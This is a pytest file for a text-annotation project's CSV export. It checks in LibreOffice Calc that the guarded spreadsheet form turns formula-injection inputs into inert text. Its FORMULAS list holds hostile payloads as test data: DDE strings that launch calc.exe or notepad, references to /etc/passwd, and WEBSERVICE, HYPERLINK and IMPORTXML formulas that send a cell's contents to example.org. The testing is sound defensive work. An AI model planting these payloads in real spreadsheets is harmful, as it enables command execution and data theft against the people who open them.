"""Hostile articles in a real spreadsheet: the spreadsheet form runs nothing and loses no letter.

It needs LibreOffice Calc, which the gate's machine need not have; the plain form shows that the test can fail.
"""

from pathlib import Path

import pytest

from reader.formats.csv import FORMULA_STARTS, write_csv
from reader.project import Project
from tests.spreadsheet import OFFICE, Cell, read_in_calc

pytestmark = [
    pytest.mark.skipif(OFFICE is None, reason="LibreOffice Calc is not on this machine"),
    pytest.mark.timeout(600),
]

FORMULAS = (  # what a spreadsheet runs, if it lets them
    "=1+1",
    "=SUM(1;2)",
    "=1+1\nbaris kedua",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "=cmd|'/C calc.exe'!A1",
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=HYPERLINK("https://example.org/?x="&A1,"klik")',
    '=WEBSERVICE("https://example.org/?x="&A1)',
    '=IMPORTXML(CONCAT("https://example.org/?x=",A1),"//a")',
    "='file:///etc/passwd'#$passwd.A1",
    "=2+5+cmd|' /C notepad'!'A1'",
    '="kutip ""ganda"" di dalam"',
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1,=2+2",
    "=1+1;=2+2",
)
HARMLESS = (  # what looks like it, or may come to be it on the way
    " =1+1",
    "  +1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\n=1+1",
    "'=1+1",
    "''",
    '"=1+1"',
    '"",=1+1',
    '","=1+1',
    "kata, =1+1",
    'kata ", =1+1',
    "kata\n=1+1",
    "kata\r\n=1+1",
    "“=1+1”",
    "a|b",
    "Nelayan, bupati; dan “kutipan” 🙂",
)


def in_calc(
    folder: Path, cells: tuple[str, ...], *, spreadsheet: bool, delimiter: str = ",", bom: bool = False
) -> list[list[Cell]]:
    """What Calc makes of these cells, each between two others."""
    file = folder / "sel.csv"
    rows = [("awal", cell, "akhir") for cell in cells]
    write_csv(file, ("satu", "dua", "tiga"), rows, spreadsheet=spreadsheet, delimiter=delimiter, bom=bom)
    return read_in_calc(file, folder, delimiter=delimiter)


def formulas(rows: list[list[Cell]]) -> list[str]:
    return [cell.formula for row in rows for cell in row if cell.formula]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_spreadsheet_form_runs_nothing(tmp_path: Path, delimiter: str) -> None:
    said = FORMULAS + HARMLESS
    rows = in_calc(tmp_path, said, spreadsheet=True, delimiter=delimiter)
    assert formulas(rows) == []
    assert len(rows) == 1 + len(said)
    for words, (first, cell, last) in zip(said, (row[:3] for row in rows[1:]), strict=True):
        assert (first.text, last.text) == ("awal", "akhir"), words
        guarded = "'" + words if words.startswith(FORMULA_STARTS) else words
        assert cell.text == as_shown(guarded), words


def as_shown(text: str) -> str:
    """A cell as Calc keeps it: all line ends are one."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_the_plain_form_does_run_them(tmp_path: Path) -> None:
    """So that what the test above says of the other form means something."""
    made = formulas(in_calc(tmp_path, FORMULAS, spreadsheet=False, bom=True))
    assert len(made) >= 10, made
    assert any("WEBSERVICE" in formula for formula in made)
    assert any("HYPERLINK" in formula for formula in made)
    assert any("DDE" in formula for formula in made)


def test_a_project_of_hostile_articles_runs_nothing(tmp_path: Path) -> None:
    with Project.in_memory(coder="=1+1") as project:
        for words in (*FORMULAS, *HARMLESS):
            article = project.add_article(
                f"{words} kata Bupati.\n\n{words}", title=words, source=words, author=words, url=words
            )
            end = len(article.text)
            project.tag(
                article.id,
                "statement",
                0,
                end,
                actor="=" + words.replace("|", ""),
                issue="@" + words.replace("|", ""),
                note=words,
                stance="oppose",
            )
        for table in ("annotations", "claims", "sentences", "articles"):
            folder = tmp_path / table
            folder.mkdir()
            columns, found = project.export_rows(table)
            count = write_csv(folder / "ekspor.csv", columns, found, spreadsheet=True)
            rows = read_in_calc(folder / "ekspor.csv", folder)
            assert formulas(rows) == []
            assert len(rows) == 1 + count
            assert [cell.text for cell in rows[0][: len(columns)]] == columns
